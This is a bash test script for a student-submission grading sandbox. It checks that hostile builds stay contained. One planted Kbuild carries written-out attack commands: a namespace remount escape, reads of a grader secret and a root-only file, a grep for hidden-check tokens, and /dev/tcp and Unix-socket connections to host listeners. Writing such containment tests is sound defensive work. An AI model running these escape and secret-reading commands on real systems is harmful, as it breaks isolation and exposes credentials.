#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0
# Proof that `make grade-all` keeps untrusted submissions in their box (part of make check): a
# class built by this test, each submission the reference plus hostile acts (the Kbuild acts run
# because the class is graded with STUDENT_KBUILD=1; by default no student Kbuild runs):
#   hostile      its Kbuild, act by act: the escape to host root (unshare -m, remount /
#                read-write, then create a marker file outside); writes to /var/tmp and the home
#                directory; reads of the grader's home, a root-only file outside it and a grep of
#                the machine for an instructor's hidden check, into the build's output; a
#                connection to a listener on the host's loopback and to a root-only Unix socket in
#                /run; symlinks to the secret and a FIFO where the build's log and module used to
#                be handed back
#   flood        its KICK floods the kernel console (with a small output cap for the test)
#   sleep_init   its init sleeps 2000 s (a time amplification: every later check would wait)
#   "col a", col_a  two names that map to one results name; a stale result from another class
#                lies under that name
#   a name with a newline, a symlink to a submission, a plain file: not graded, each a row
# Each act must be contained (no file created, no secret or hidden check in any output, no
# connection, the console capped), every submission scores what it earned, every entry has its
# own row in class.csv, and the run finishes within a stated bound. Graded on exercise 1 only,
# with an instructor's hidden check (EXTRA_TESTS) that counts and is marked hidden in the JSON.
# Also: without STUDENT_KBUILD, a submission's own Kbuild does not run at all.
# Usage: grade-class.sh
set -uo pipefail
. "$(dirname "$0")/../../qemu/lib.sh"
. "$ROOT/tests/ktap.sh"

work=$(mktemp -d)
secret=$HOME/.rwq-grader-secret
token=rwq-secret-$RANDOM$RANDOM
marker=rwq-hostile-$RANDOM$RANDOM
listener=
unix_listener=
cleanup() {
	[ -z "$listener" ] || kill "$listener" 2>/dev/null
	[ -z "$unix_listener" ] || kill "$unix_listener" 2>/dev/null
	rm -rf "$work" "$secret" "/var/tmp/$marker" "/var/tmp/$marker-root" "${HOME:?}/$marker" "${rootonly:-}" "${sock:-}"
}
trap cleanup EXIT
echo "$token" >"$secret"

# A listener on the host's loopback that records every connection it gets.
port=$((20000 + RANDOM % 20000))
python3 -c '
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(5)
while True:
    c, _ = s.accept(); open(sys.argv[2], "a").write("connection\n"); c.close()
' "$port" "$work/connections" &
listener=$!

class=$work/class
# The hostile lines below are make syntax for the submission's own Kbuild: not expanded here.
submission() { # submission NAME: a copy of the reference
	mkdir -p "$class/$1"
	cp "$ROOT"/Kbuild "$ROOT"/*.rs "$class/$1/"
}
rootonly=/var/tmp/rwq-rootonly-$RANDOM$RANDOM
echo "$token-rootonly" >"$rootonly" && chmod 600 "$rootonly"
sock=/run/rwq-grader-$RANDOM$RANDOM.sock
python3 -c '
import os, socket, sys
s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); os.chmod(sys.argv[1], 0o600); s.listen(5)
while True:
    c, _ = s.accept(); open(sys.argv[2], "a").write("unix connection\n"); c.close()
' "$sock" "$work/connections" &
unix_listener=$!

submission hostile
# shellcheck disable=SC2016 # make syntax, for the submission's Kbuild
{
	printf '$(warning escape: $(shell unshare -m sh -c "mount -o remount,bind,rw / && touch /var/tmp/%s-root" 2>&1))\n' "$marker"
	printf '$(shell touch /var/tmp/%s $(HOME)/%s)\n$(warning write: $(shell touch /var/tmp/%s 2>&1))\n' "$marker" "$marker" "$marker"
	printf '$(warning stolen: $(shell cat %s %s 2>&1; grep -rh instructor-token /home /var /srv /etc /run /tmp 2>&1 | head -n 3))\n' \
		"$secret" "$rootonly"
	printf '$(warning net: $(shell bash -c "echo hello >/dev/tcp/127.0.0.1/%s" 2>&1; python3 -c "import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"%s\")" 2>&1 | tail -n 1))\n' \
		"$port" "$sock"
	printf '$(warning links: $(shell mkdir -p /tmp/out; ln -sf %s /tmp/out/rust_workq.ko; ln -sf %s /tmp/out/build.log; mkfifo /tmp/out/fifo 2>&1))\n' \
		"$secret" "$secret"
} >>"$class/hostile/Kbuild"
# insert_after NAME LINE CODE: adds CODE (Rust lines) after the line LINE of NAME's module.
insert_after() {
	python3 - "$class/$1/rust_workq.rs" "$2" "$3" <<'PY'
import sys
p, line, code = sys.argv[1:]
s = open(p).read()
assert line + "\n" in s, line
open(p, "w").write(s.replace(line + "\n", line + "\n" + code + "\n", 1))
PY
}
submission flood
insert_after flood '        me.stats.stamp(Item::Kick);' \
	'        for i in 0..20000 { pr_err!("flood {i}: this line is here to fill the console\n"); }'
submission sleep_init
insert_after sleep_init '        let options = MiscDeviceOptions { name: c"mydevice" };' \
	'        kernel::time::delay::fsleep(kernel::time::Delta::from_millis(2_000_000));'
submission "col a"
submission col_a
ln -s "$class/col_a" "$class/link_to_col_a"
echo "not a module" >"$class/plain_file"
submission "new
line"
# A stale result under the results name "col a" gets, from "another class" (another key, score).
mkdir -p "$work/out/class/col_a"
echo '{"score": 999, "extra_data": {"max_score": 15, "exercises": {}, "build": "ok", "crashed": []}}' >"$work/out/class/col_a/results.json"
echo stale-key >"$work/out/class/col_a/key"

# An instructor's hidden check, in the checks' own format.
mkdir -p "$work/hidden"
cat >"$work/hidden/15-hidden_value_twice.sh" <<'CHECK'
# shellcheck shell=sh
# Hidden: KICK_WITH_VALUE twice with one value: two "worker received" lines.
# instructor-token: TOKEN
#@ exercise=1
#@ points=5
#@ limit=10
. /tests/grade-lib.sh
# Served by the host when its turn came: not in the image the module saw at load.
[ ! -e /extra/15-hidden_value_twice.sh ] || fail "the hidden check was in the guest's image"
v=$(random_value)
call KICK_WITH_VALUE -v "$v"
await_worker "worker received: $v" >/dev/null
call KICK_WITH_VALUE -v "$v"
two() { [ "$(worker_count "worker received: $v")" = 2 ]; }
wait_until 5 two || fail "expected two lines with \"worker received: $v\""
CHECK
sed -i "s/TOKEN/$token-check/" "$work/hidden/15-hidden_value_twice.sh"
cap=262144
# The bound for the whole class: 5 graded submissions of about 20 s each on the reference
# machine, plus sleep_init's one hung insmod (10 s), times the speed factor and 3 for margin.
t0=$(now)
SUBMISSIONS=$class EXERCISE=1 EXTRA_TESTS=$work/hidden GRADE_OUT=$work/out RWQ_OUTPUT_CAP=$cap STUDENT_KBUILD=1 \
	bash "$ROOT/grade/grade-all.sh" >"$work/run.out" 2>"$work/run.err"
rc=$?
took=$(awk -v a="$t0" -v b="$(now)" 'BEGIN { printf "%d", b - a }')
sed 's/^/    /' "$work/run.out"
ktap_header
ktap_plan 15
out=$work/out/class
result() { # result OK|FAIL TEXT [DIAG]
	if [ "$1" = OK ]; then ktap_result pass "class: $2"; else
		[ -z "${3:-}" ] || ktap_diag "$3"
		ktap_result fail "class: $2"
	fi
}
check() { # check TEXT COMMAND...: passes if COMMAND succeeds
	local t=$1
	shift
	if "$@"; then result OK "$t"; else result FAIL "$t"; fi
}
score() { python3 "$ROOT/grade/class.py" --score "$out/$1/results.json" 2>/dev/null; }
factor=$(python3 "$ROOT/tests/results.py" get "$out/col_a/log/results.json" speed_factor 2>/dev/null || echo 1)
bound=$(awk -v f="$factor" 'BEGIN { printf "%d", (5 * 20 + 10) * f * 3 }')
lines=$(grep -c '^\[[0-9]*/8\] ' "$work/run.out")
if [ "$rc" = 0 ] && [ "$lines" = 8 ] && [ -f "$work/out/class.csv" ] && [ "$took" -le "$bound" ]; then
	result OK "the run completes in ${took}s (bound ${bound}s): 8 progress lines and class.csv"
else
	result FAIL "the run completes within ${bound}s: 8 progress lines and class.csv" "exit $rc, ${took}s, $lines lines; $(tail -n 3 "$work/run.err" | tr '\n' '|')"
fi
none_outside() { [ ! -e "/var/tmp/$marker" ] && [ ! -e "/var/tmp/$marker-root" ] && [ ! -e "$HOME/$marker" ]; }
escape_refused() { grep -qE 'escape: .*(not permitted|No space left)' "$out/hostile/report.txt" && none_outside; }
check "hostile: the escape: unshare and remount are refused in the box; no file created outside" escape_refused
# grep -R follows symlinks: a link to the secret left in any output would be found.
no_secret() { ! grep -Rqs "$token" "$work/out"; }
check "hostile: no secret, root-only file or hidden check in any output" no_secret
no_connection() { [ ! -s "$work/connections" ]; }
check "hostile: no TCP or Unix-socket connection reached the host" no_connection
no_links() { [ -z "$(find "$work/out" -type l -o -type p)" ] && [ "$(score hostile)" = 15/15 ]; }
check "hostile: no symlink or FIFO reaches the host's outputs; the module still scores 15/15" no_links
# The console keeps the first $cap bytes ('\r's removed afterwards): more than 90% of the cap
# means the flood reached it.
console=$(find "$out/flood/log" -name console.log -printf '%s %p\n' | sort -n | tail -n 1)
if [ -n "$console" ] && [ "${console%% *}" -le "$cap" ] && [ "${console%% *}" -gt $((cap * 9 / 10)) ] &&
	grep -q 'flood 1:' "${console#* }"; then
	ktap_result pass "class: flood: the console log is capped at $cap bytes (${console%% *} kept)"
else
	ktap_diag "largest console log: ${console:-none}"
	ktap_result fail "class: flood: the console log is capped at $cap bytes"
fi
# What each earned: the hostile builds are the reference with one act the box contains, so
# exercise 1 in full, the hidden check included; the flood is graded too (what it earned depends
# on which of its own lines the kernel log kept).
full=1
for s in hostile col_a col_a-2; do
	[ "$(score "$s")" = 15/15 ] || { full=0; ktap_diag "$s scored '$(score "$s")'"; }
done
[ -n "$(score flood)" ] || { full=0; ktap_diag "flood has no score"; }
if [ "$full" = 1 ]; then
	result OK "the contained build and both col a and col_a score 15/15 on exercise 1; the flood is graded ($(score flood))"
else
	result FAIL "the contained build and both col a and col_a score 15/15 on exercise 1; the flood is graded"
fi
hidden=$(python3 - "$out/hostile/results.json" 2>/dev/null <<'PY'
import json, sys
for t in json.load(open(sys.argv[1]))["tests"]:
    if "hidden_value_twice" in t["name"]:
        print(f"{t['visibility']}:{t['score']}/{t['max_score']}")
PY
)
check "the instructor's hidden check, served only when its turn came, counts and is marked hidden in results.json ($hidden)" [ "$hidden" = hidden:5/5 ]
hangs() {
	[ "$(score sleep_init)" = 0/15 ] && grep -q 'the module hangs at insmod' "$out/sleep_init/report.txt" &&
		grep -q 'not run: the module hangs at insmod' "$out/sleep_init/report.txt"
}
check "sleep_init: the hung insmod costs one bounded wait; its other checks are marked not run" hangs
stale() { grep -q '^\[[0-9]*/8\] col a: 15/15 .*graded again' "$work/run.out"; }
check "col a: a stale result from another class under its results name is not reused; it is graded again (15/15)" stale
row() { # row NAME REASON-ERE: class.csv has NAME's row, not graded for REASON (or graded: "")
	python3 - "$work/out/class.csv" "$1" "$2" <<'PY'
import csv, re, sys
rows = [r for r in csv.DictReader(open(sys.argv[1])) if r["name"] == sys.argv[2]]
ok = len(rows) == 1 and (re.search(sys.argv[3], rows[0]["not graded"]) if sys.argv[3] else rows[0]["score"] != "")
sys.exit(0 if ok else 1)
PY
}
rows() {
	row "col a" "" && row col_a "" && row "new?line" "control character" && row link_to_col_a "symbolic link" &&
		row plain_file "not a directory" && [ "$(($(wc -l <"$work/out/class.csv") - 1))" = 8 ]
}
check "class.csv: a row for each of the 8 entries, col a and col_a apart, the ungradable ones with their reason" rows
raw_name() { grep -q '\] new?line: not graded' "$work/run.out" && ! grep -q '^line: not graded' "$work/run.out"; }
check "a name with a newline is printed with it escaped" raw_name

# Without STUDENT_KBUILD a submission's own Kbuild does not run: one that would stop the build
# still builds, with the grader's Kbuild.
submission kbuild_ignored
# shellcheck disable=SC2016 # make syntax
printf '$(error the student Kbuild ran)\n' >>"$class/kbuild_ignored/Kbuild"
MODULE=$class/kbuild_ignored EXERCISE=0 GRADE_OUT=$work/one bash "$ROOT/grade/grade.sh" >"$work/one.out" 2>&1
ignored() { grep -q '^Score: 5/5$' "$work/one.out" && ! grep -q 'student Kbuild ran' "$work/one/module/build.log"; }
check "by default the submission's own Kbuild does not run: the grader's builds it (5/5)" ignored
# UNSAFE: a submission with an unsafe block of its own (a control character in the line too).
submission own_unsafe
sed -i 's|^\(        this.stats.started(Item::Quick);\)$|        let _j = unsafe { core::ptr::read_volatile(\&raw const kernel::bindings::jiffies) }; /* \x1b[2J */\n\1|' "$class/own_unsafe/rust_workq.rs"
at=$(grep -n 'let _j = unsafe' "$class/own_unsafe/rust_workq.rs" | cut -d: -f1)
MODULE=$class/own_unsafe EXERCISE=0 UNSAFE=forbid GRADE_OUT=$work/forbid bash "$ROOT/grade/grade.sh" >"$work/forbid.out" 2>&1
refused() {
	grep -q '^Score: 0/5$' "$work/forbid.out" && grep -q "UNSAFE=forbid: rust_workq.rs:$at: unsafe code beyond the starter's" "$work/forbid.out" &&
		! grep -q $'\x1b' "$work/forbid.out" && grep -q '"build": "refused"' "$work/forbid/results.json"
}
check "UNSAFE=forbid: unsafe code of the submission's own is refused (0/5), naming rust_workq.rs:$at, escaped" refused
MODULE=$class/own_unsafe EXERCISE=0 GRADE_OUT=$work/flag bash "$ROOT/grade/grade.sh" >"$work/flag.out" 2>&1
flagged() {
	grep -q '^Score: 5/5$' "$work/flag.out" && grep -q "^    rust_workq.rs:$at: let _j = unsafe" "$work/flag.out" &&
		[ "$(grep -c '^    [a-z_]*\.rs:[0-9]*: ' "$work/flag.out")" = 1 ]
}
check "UNSAFE=flag (the default): graded (5/5), and exactly its own line listed, not the starter's" flagged
ktap_totals
[ "$KTAP_FAIL" = 0 ]
